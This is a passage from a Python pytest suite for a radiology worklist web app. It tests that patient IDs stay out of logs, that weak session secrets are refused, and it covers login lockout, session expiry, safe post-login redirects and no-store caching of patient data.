            # Waiting for the lock would end in a 500 after the 30 s busy timeout.
            during = client.get("/api/worklist/fingerprint")
            assert during.status_code == 200
            assert during.json()["fingerprint"] == before  # the snapshot before the write
            writer.rollback()


def test_a_failing_query_keeps_its_parameters_out_of_errors_and_logs(
    node: Node, caplog: pytest.LogCaptureFixture
) -> None:
    """A worklist search may be a patient ID: when its query fails (database restarted,
    lock timeout) the exception text that the server logs must not carry it, nor the
    SQL log an admin may switch on for debugging (``echo``: sqlalchemy.engine at INFO)."""
    add_study(node, patient_id="PID-SECRET-4711")
    with node.engine.begin() as conn:
        conn.exec_driver_sql("ALTER TABLE studies RENAME TO studies_gone")
    try:
        with TestClient(create_app(node)) as client:
            login(client, "rad")
            sql_log = caplog.at_level(logging.INFO, "sqlalchemy.engine")
            with sql_log, pytest.raises(DBAPIError) as failure:
                client.get("/api/worklist", params={"q": "PID-SECRET-4711"})
    finally:
        with node.engine.begin() as conn:
            conn.exec_driver_sql("ALTER TABLE studies_gone RENAME TO studies")
    # The message uvicorn logs at ERROR with the traceback (which shows only source lines).
    error = "".join(traceback.format_exception_only(failure.value))
    assert "studies" in error and "PID-SECRET-4711" not in error
    echoed = "\n".join(r.getMessage() for r in caplog.records if r.name.startswith("sqlalchemy"))
    assert "SELECT" in echoed and "PID-SECRET-4711" not in echoed


def _settings(tmp_path: Path, **web: Any) -> Settings:
    return Settings.model_validate(node_config(tmp_path, web={"enabled": False, **web}))


@pytest.mark.parametrize("content", ["", "\n", "abc123"])
def test_an_empty_or_short_web_secret_file_is_refused(tmp_path: Path, content: str) -> None:
    """An empty file (a crash after creating it, or a reader racing the writer) would sign
    cookies with an empty key: anyone could forge an admin's session."""
    settings = _settings(tmp_path)
    settings.storage.data_dir.mkdir(parents=True)
    (settings.storage.data_dir / KEY_FILE).write_text(content)
    with pytest.raises(ConfigError, match="web-secret"):
        session_secret(settings)


def test_a_short_secret_key_setting_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"web\.secret_key"):
        session_secret(_settings(tmp_path, secret_key="x" * (MIN_KEY_CHARS - 1)))
    assert session_secret(_settings(tmp_path, secret_key="x" * MIN_KEY_CHARS))


def test_web_secret_is_created_whole_once_for_concurrent_first_starts(tmp_path: Path) -> None:
    settings = _settings(tmp_path)
    with ThreadPoolExecutor(8) as pool:
        keys = set(pool.map(lambda _: session_secret(settings), range(16)))
    assert len(keys) == 1 and len(key := keys.pop()) >= MIN_KEY_CHARS
    path = settings.storage.data_dir / KEY_FILE
    assert path.read_text() == key and path.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in settings.storage.data_dir.iterdir()] == [KEY_FILE]  # no temp files


def test_failed_logins_lock_the_name_with_429_and_an_audit(client: TestClient, node: Node) -> None:
    wrong = {"name": "rad", "password": "guess-123"}  # pragma: allowlist secret
    for _ in range(4):
        assert client.post("/api/session", json=wrong).status_code == 401
    assert (
        client.post("/api/session", json={"name": "rad", "password": PASSWORD}).status_code == 200
    )
    for _ in range(5):  # the success cleared the name's failures
        assert client.post("/api/session", json=wrong).status_code == 401
    locked = client.post("/api/session", json={"name": "rad", "password": PASSWORD})
    assert locked.status_code == 429 and locked.headers["Retry-After"] == "60"
    assert "Too many failed logins" in locked.json()["detail"]
    page = client.get("/login")
    token = page.text.split('name="csrf_token" value="')[1].split('"')[0]
    form = {"name": "rad", "password": PASSWORD, "csrf_token": token, "next": "/"}
    refused = client.post("/login", data=form)
    assert refused.status_code == 429 and "Too many failed logins" in refused.text
    assert client.post("/api/session", json={"name": "admin", "password": PASSWORD}).is_success
    with node.sessions() as session:
        events = session.execute(
            select(AuditEvent.user_name, AuditEvent.action, AuditEvent.detail).where(
                AuditEvent.action.startswith("login.")
            )
        ).all()
    assert events.count(("rad", "login.failed", None)) == 9
    assert ("rad", "login.locked", "name locked for 60 s") in events


def test_failed_logins_lock_the_client_address(node: Node) -> None:
    node.settings.web.login_max_failures_per_address = 3
    with TestClient(create_app(node)) as guesser:
        for name in ("a", "b", "c"):
            r = guesser.post("/api/session", json={"name": name, "password": "guess-123"})
            assert r.status_code == 401
        r = guesser.post("/api/session", json={"name": "rad", "password": PASSWORD})
        assert r.status_code == 429 and int(r.headers["Retry-After"]) == 60


def test_a_session_ends_after_idle_minutes_not_minutes_since_login(
    client: TestClient, node: Node
) -> None:
    """Every request of its user extends a session; the worklist's polls do not, so an
    open worklist on an unattended workstation still logs out."""
    minutes = node.settings.web.session_minutes
    node.settings.web.session_max_hours = 48
    t0 = time.time()
    login(client, "rad")
    for step in (1, 2, 3):  # active for three times session_minutes
        with mock.patch("time.time", return_value=t0 + step * (minutes - 1) * 60):
            assert client.get("/api/worklist").status_code == 200
    last = t0 + 3 * (minutes - 1) * 60
    for offset in (60, (minutes - 1) * 60):
        with mock.patch("time.time", return_value=last + offset):
            assert client.get("/api/worklist/fingerprint").status_code == 200
            assert client.get("/worklist/rows").status_code == 200
    with mock.patch("time.time", return_value=last + (minutes + 1) * 60):
        assert client.get("/api/worklist/fingerprint").status_code == 401


def test_a_session_ends_at_its_maximum_age_however_active(client: TestClient, node: Node) -> None:
    node.settings.web.session_max_hours = 1
    t0 = time.time()
    login(client, "rad")
    with mock.patch("time.time", return_value=t0 + 50 * 60):
        assert client.get("/api/worklist").status_code == 200
    with mock.patch("time.time", return_value=t0 + 61 * 60):
        assert client.get("/api/worklist").status_code == 401


def test_a_form_posted_after_the_session_ended_returns_to_its_page(
    client: TestClient, node: Node
) -> None:
    """``next`` is fetched with GET after login: a POST route there would answer 405."""
    uid = add_study(node)
    study = f"/studies/{uid}"
    for referer, back in (
        (f"http://testserver{study}?x=1", f"{study}?x=1"),
        (f"http://elsewhere.example{study}", "/"),
        (None, "/"),
    ):
        headers = {"Referer": referer} if referer else {}
        r = client.post(
            f"{study}/read", data={"csrf_token": "x"}, headers=headers, follow_redirects=False
        )
        assert r.status_code == 303
        assert r.headers["location"] == f"/login?next={quote(back)}"
    r = client.get(f"{study}?x=1", follow_redirects=False)
    assert r.headers["location"] == f"/login?next={quote(study + '?x=1')}"


def test_responses_with_patient_data_are_not_cached(client: TestClient, node: Node) -> None:
    uid = add_study(node)
    login(client, "rad")
    for path in ("/", "/api/worklist", f"/studies/{uid}", f"/api/studies/{uid}", "/login"):
        r = client.get(path)
        assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store", path
    static = client.get("/static/app.css")
    assert static.status_code == 200 and "no-store" not in static.headers.get("Cache-Control", "")
